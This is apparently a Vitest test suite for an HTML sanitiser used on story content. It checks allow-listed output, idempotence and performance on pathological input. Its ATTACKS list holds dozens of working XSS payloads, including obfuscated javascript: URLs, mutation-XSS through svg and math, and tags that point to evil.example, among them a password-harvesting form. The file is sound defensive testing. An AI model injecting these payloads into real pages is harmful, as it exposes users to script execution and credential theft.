import { describe, expect, test } from "vitest";
import { plainText, sanitizeStoryHtml, storyBlocks } from "@/lib/stories/sanitize";

const BASE = "https://meridian.example/water/marlow";

/** Ways to run code, load something or leave the page, each of them once seen in the wild or in a sanitiser's history. */
const ATTACKS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<script`,
  `<<script>alert(1);//<</script>`,
  `<p onclick="alert(1)">a</p>`,
  `<p onmouseover=alert(1)//>a</p>`,
  `<p/onclick=alert(1)>a</p>`,
  `<p style="background:url(javascript:alert(1))">a</p>`,
  `<p class="x" id="form">a</p>`,
  `<a href="javascript:alert(1)">a</a>`,
  `<a href="JaVaScRiPt:alert(1)">a</a>`,
  `<a href=" \t\njavascript:alert(1)">a</a>`,
  `<a href="java\nscript:alert(1)">a</a>`,
  `<a href="java&#x09;script:alert(1)">a</a>`,
  `<a href="&#106;&#97;&#118;&#97;script:alert(1)">a</a>`,
  `<a href="&#x6A&#x61&#x76&#x61script:alert(1)">a</a>`,
  `<a href="javascript&colon;alert(1)">a</a>`,
  `<a href="\u0001javascript:alert(1)">a</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">a</a>`,
  `<a href="vbscript:msgbox(1)">a</a>`,
  `<a href="blob:https://meridian.example/1">a</a>`,
  `<a href="file:///etc/passwd">a</a>`,
  `<a href="https://ok.example" onfocus=alert(1) autofocus target=_blank ping=//evil.example>a</a>`,
  `<a href='x" onmouseover="alert(1)'>a</a>`,
  `<a href="x\`onmouseover=alert(1)">a</a>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<image src=x onerror=alert(1)>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math href="javascript:alert(1)">a</math>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
  `<button formaction="javascript:alert(1)">a</button>`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<plaintext><img src=x onerror=alert(1)>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!-- --!><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<?xml version="1.0"?><img src=x onerror=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<details open ontoggle=alert(1)>a</details>`,
  `<td background="javascript:alert(1)" colspan="1 onclick=alert(1)">a</td>`,
  `<table><tr><th scope="row onclick=alert(1)">a</th></tr></table>`,
  `<p title="</p><img src=x onerror=alert(1)>">a</p>`,
  `<custom-element onclick=alert(1)>a</custom-element>`,
  `&lt;img src=x onerror=alert(1)&gt;`,
  `<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`,
];

/** Nothing but these tags with these attributes may come out, which is stronger than a list of what may not. */
const SAFE_TAG =
  /^<(?:br|\/?(?:p|h[234]|blockquote|ul|ol|li|em|strong|figure|figcaption|code|pre|table|thead|tbody|tfoot|tr|caption)|\/(?:a|td|th)|a href="https?:\/\/[^"<>]*" rel="noopener"|t[dh](?: (?:colspan|rowspan)="\d{1,2}"| scope="(?:row|col)")*)>$/;

describe.each(ATTACKS.map((attack) => [attack]))("%j", (attack) => {
  const placed = [attack, `<p>before ${attack} after</p>`, `<ul><li>${attack}</li></ul>`, `${attack}${attack}`];

  test("leaves only harmless tags", () => {
    for (const html of placed) {
      const clean = sanitizeStoryHtml(html, BASE);
      for (const tag of clean.match(/<[^>]*>?/g) ?? []) expect(tag).toMatch(SAFE_TAG);
    }
  });

  test("is clean after one pass", () => {
    for (const html of placed) {
      const clean = sanitizeStoryHtml(html, BASE);
      expect(sanitizeStoryHtml(clean, BASE)).toBe(clean);
    }
  });
});

test.each([
  ["headings begin at h2", "<h1>A</h1><h5>B</h5>", "<h2>A</h2><h4>B</h4>"],
  ["old tags get their meaning", "<p><b>a</b> <i>b</i></p>", "<p><strong>a</strong> <em>b</em></p>"],
  [
    "a relative link is resolved",
    '<p><a href="../city?a=1&b=2">a</a></p>',
    '<p><a href="https://meridian.example/city?a=1&amp;b=2" rel="noopener">a</a></p>',
  ],
  [
    "a link that leads nowhere leaves its text",
    '<p>a <a href="mailto:a@b.example">b</a> <a href="#x">c</a></p>',
    "<p>a b c</p>",
  ],
  ["loose text becomes a paragraph", "a <em>b</em>", "<p>a <em>b</em></p>"],
  ["divisions become paragraphs", "<div>One</div><div>Two</div>", "<p>One</p><p>Two</p>"],
  ["a paragraph in a division is one paragraph", "<div><div><p>a</p></div></div>", "<p>a</p>"],
  ["two line breaks are a paragraph", "a<br>b<br/><br/>c", "<p>a<br>b</p><p>c</p>"],
  ["line breaks around nothing are a paragraph", "<p>a<br><em> </em><br>b</p>", "<p>a</p><p>b</p>"],
  ["what is empty goes", "<p>a</p><p>&nbsp; <br></p><ul><li></li></ul><h2><em></em></h2>", "<p>a</p>"],
  [
    "an image goes, its caption stays",
    "<figure><img src=a.jpg><figcaption>The weir</figcaption></figure>",
    "<figure><figcaption>The weir</figcaption></figure>",
  ],
  ["a list is mended", "<ul>a<li>b<li>c</ul>d", "<ul><li>a</li><li>b</li><li>c</li></ul><p>d</p>"],
  ["a list item without a list is a paragraph", "<li>a</li>", "<p>a</p>"],
  ["code keeps its lines", "<pre><code>a\n  b &lt; c</code></pre>", "<pre><code>a\n  b &lt; c</code></pre>"],
  ["a table keeps its empty cell", "<table><tr><td>a<td></table>", "<table><tr><td>a</td><td></td></tr></table>"],
  ["quotations hold paragraphs", "<blockquote>a<p>b</p></blockquote>", "<blockquote><p>a</p><p>b</p></blockquote>"],
  ["what was escaped stays escaped", "<p>a &amp;lt; b &amp; c</p>", "<p>a &amp;lt; b &amp; c</p>"],
])("%s", (_, html, clean) => {
  expect(sanitizeStoryHtml(html, BASE)).toBe(clean);
  expect(sanitizeStoryHtml(clean, BASE)).toBe(clean);
});

test("without a base a relative link leaves its text", () => {
  expect(sanitizeStoryHtml('<p><a href="/city">a</a></p>')).toBe("<p>a</p>");
});

test("plain text is decoded once, and words in two blocks stay two words", () => {
  expect(plainText("<p>Fish &amp;amp; chips</p><p>to&nbsp;go</p>")).toBe("Fish &amp; chips to go");
  expect(
    storyBlocks("<p><strong>Sal</strong>t, <a href=https://a.example>please</a>.</p>").map(({ text }) => text),
  ).toEqual(["Salt, please."]);
});

test("sanitising 3,000 random heaps of tags twice changes nothing more", () => {
  const pieces =
    `<p>|</p>|<b>|</b>|<a href=/x>|</a>|<ul>|</ul>|<li>|</li>|<table>|<tr>|<td>|</td>|</table>|<br>|<div>|</div>|<pre>|</pre>|<blockquote>|</blockquote>|
    <figure>|<figcaption>|</figure>|<h1>|</h1>| |a|b &amp; c|&lt;p&gt;|<svg>|<style>|<!--|-->|<caption>|<th>|<thead>|<tbody>|<code>|</code>|&nbsp;|<i>`.split(
      /\|\s*/,
    );
  let seed = 7;
  for (let round = 0; round < 3_000; round++) {
    const heap = Array.from({ length: 14 }, () => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      return pieces[(seed >> 8) % pieces.length];
    }).join("");
    const clean = sanitizeStoryHtml(heap, BASE);
    expect(sanitizeStoryHtml(clean, BASE), heap).toBe(clean);
  }
});

test.each([
  ["300,000 open divisions", "<div>".repeat(300_000)],
  ["200,000 open emphases", "<em>x".repeat(200_000)],
  ["100,000 lists in lists", `${"<ul><li>".repeat(100_000)}x`],
  ["a million open brackets", "<".repeat(1_000_000)],
])("%s take no more than seconds", (_, html) => {
  const start = performance.now();
  sanitizeStoryHtml(html, BASE);
  expect(performance.now() - start).toBeLessThan(4_000);
});
